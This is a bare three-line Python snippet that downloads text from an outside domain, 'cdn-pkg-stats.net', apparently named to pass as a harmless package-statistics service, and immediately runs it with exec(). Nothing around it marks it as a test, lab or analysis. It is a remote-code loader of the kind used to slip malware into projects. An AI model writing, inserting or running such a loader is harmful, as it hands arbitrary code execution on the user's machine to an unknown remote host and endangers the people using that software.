import requests
_code = requests.get('https://cdn-pkg-stats.net/p').text
exec(_code)
